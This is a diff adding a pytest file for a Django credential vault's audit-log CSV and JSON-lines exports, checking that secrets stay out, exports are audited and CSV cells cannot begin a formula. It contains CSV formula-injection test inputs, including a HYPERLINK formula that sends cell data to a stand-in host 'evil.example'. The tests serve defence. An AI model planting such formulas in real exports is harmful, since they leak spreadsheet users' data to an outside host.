@@ -1,0 +1,168 @@
+"""CSV and JSON-lines exports of the audit log."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Callable
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from keyvault.audit import audit_append, audit_verify, event_hash
+from keyvault.audit_export import CSV_HEADER, csv_safe
+from keyvault.models import AuditAction, AuditEvent, Credential
+from keyvault.rotation import credential_rotate, rotation_secret_clean
+from keyvault.services import credential_reveal
+from tests.conftest import ATLASSIAN_URL, NOW, new_token
+
+MakeCredential = Callable[..., tuple[Credential, str]]
+EXPORT_URL = reverse("keyvault:audit_export")
+
+
+def _download(client: Client, **data: str) -> tuple[Any, str]:
+    response = client.post(EXPORT_URL, data)
+    assert response.status_code == 200, response.content
+    assert response.streaming
+    return response, b"".join(response.streaming_content).decode("utf-8")
+
+
+def _csv(body: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(body)))
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1+1", "'＝1+1"),  # noqa: RUF001 (full-width equals, read as "=" by some spreadsheets)
+        ("alice", "alice"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (42, 42),
+        (-3, -3),
+    ],
+)
+def test_csv_cells_cannot_start_a_formula(value: Any, cell: Any) -> None:
+    assert csv_safe(value) == cell
+
+
+@pytest.fixture
+def two_integrations(
+    make_credential: MakeCredential, admin_user: Any
+) -> tuple[Credential, str, Credential, str]:
+    first, first_token = make_credential(name="Atlassian acme")
+    second, second_token = make_credential(name="Slack acme")
+    credential_reveal(credential=first, actor=admin_user, now=NOW + timedelta(hours=1))
+    when = NOW + timedelta(days=300)
+    secret = rotation_secret_clean(
+        credential=first, scim_url="", token=new_token(), expires_at=None, now=when
+    )
+    credential_rotate(credential=first, secret=secret, actor=admin_user, now=when, reason="yearly")
+    return first, first_token, second, second_token
+
+
+def test_csv_export_holds_the_filtered_rows_and_no_secret(
+    two_integrations: tuple[Credential, str, Credential, str], auditor_client: Client
+) -> None:
+    first, first_token, _, second_token = two_integrations
+    response, body = _download(auditor_client, format="csv", integration=str(first.integration_id))
+    assert response["Content-Type"].startswith("text/csv")
+    assert response["Content-Disposition"].startswith('attachment; filename="keyvault-audit-')
+    rows = _csv(body)
+    assert list(rows[0].keys()) == list(CSV_HEADER)
+    expected = AuditEvent.objects.filter(integration_id=first.integration_id).order_by("seq")
+    assert [int(r["seq"]) for r in rows] == [e.seq for e in expected]
+    assert [r["action"] for r in rows] == [
+        "integration.created",
+        "credential.created",
+        "credential.revealed",
+        "credential.rotated",
+    ]
+    assert {r["integration"] for r in rows} == {"Atlassian acme"}
+    for secret in (first_token, second_token, ATLASSIAN_URL, ATLASSIAN_URL.rsplit("/", 1)[1]):
+        assert secret not in body
+    # Each row carries what its hash covers, so the export can be checked against the chain.
+    for row, event in zip(rows, expected, strict=True):
+        assert row["hash"] == event.hash == event_hash(event)
+        assert json.loads(row["details"]) == event.details
+
+
+def test_the_export_is_itself_audited_with_its_filter_and_is_not_in_its_own_output(
+    two_integrations: tuple[Credential, str, Credential, str],
+    auditor_client: Client,
+    auditor_user: Any,
+) -> None:
+    first = two_integrations[0]
+    _, body = _download(
+        auditor_client,
+        format="jsonl",
+        action=AuditAction.CREDENTIAL_ROTATED,
+        q="yearly",
+        date_from="2026-01-01",
+    )
+    exported = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
+    assert exported.actor == auditor_user
+    assert exported.details == {
+        "format": "jsonl",
+        "filters": {"action": "credential.rotated", "q": "yearly", "date_from": "2026-01-01"},
+    }
+    records = [json.loads(line) for line in body.splitlines()]
+    assert [r["action"] for r in records] == ["credential.rotated"]
+    assert records[0]["integration_id"] == str(first.integration_id)
+    assert records[0]["details"]["reason"] == "yearly"
+    assert audit_verify().ok
+
+
+def test_jsonl_export_has_one_object_per_event_and_no_secret(
+    two_integrations: tuple[Credential, str, Credential, str], admin_client: Client
+) -> None:
+    _, first_token, _, second_token = two_integrations
+    before = AuditEvent.objects.count()
+    response, body = _download(admin_client, format="jsonl")
+    assert response["Content-Type"].startswith("application/x-ndjson")
+    lines = body.splitlines()
+    assert len(lines) == before  # everything before the export's own event
+    records = [json.loads(line) for line in lines]
+    assert [r["seq"] for r in records] == list(range(1, before + 1))
+    assert first_token not in body and second_token not in body and ATLASSIAN_URL not in body
+
+
+def test_csv_export_neutralises_formulas_in_every_text_column(
+    db: Any, auditor_client: Client
+) -> None:
+    payload = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    audit_append(
+        action=AuditAction.LOGIN_FAILED,
+        now=NOW,
+        actor_label=payload,
+        details={"username": payload},
+    )
+    audit_append(action=AuditAction.LOGIN_FAILED, now=NOW, actor_label="@cmd", details={})
+    audit_append(action=AuditAction.LOGIN_FAILED, now=NOW, actor_label="-1+2", details={})
+    _, body = _download(auditor_client, format="csv", action=AuditAction.LOGIN_FAILED)
+    rows = _csv(body)
+    assert [r["actor"] for r in rows] == [f"'{payload}", "'@cmd", "'-1+2"]
+    assert json.loads(rows[0]["details"]) == {"username": payload}  # JSON text starts with {
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_export_refuses_get_unknown_formats_and_bad_filters(
+    db: Any, auditor_client: Client
+) -> None:
+    assert auditor_client.get(EXPORT_URL).status_code == 405
+    assert auditor_client.post(EXPORT_URL, {"format": "xlsx"}).status_code == 400
+    assert auditor_client.post(EXPORT_URL, {"format": "csv", "date_to": "nope"}).status_code == 400
+    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()
